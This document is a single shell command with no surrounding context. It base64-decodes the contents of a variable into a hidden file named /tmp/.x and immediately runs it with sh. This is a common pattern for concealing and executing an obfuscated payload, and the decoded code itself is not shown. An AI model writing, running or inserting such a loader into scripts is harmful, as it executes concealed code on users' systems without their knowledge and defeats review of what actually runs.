printf %s "$P" | base64 --decode > /tmp/.x; sh /tmp/.x
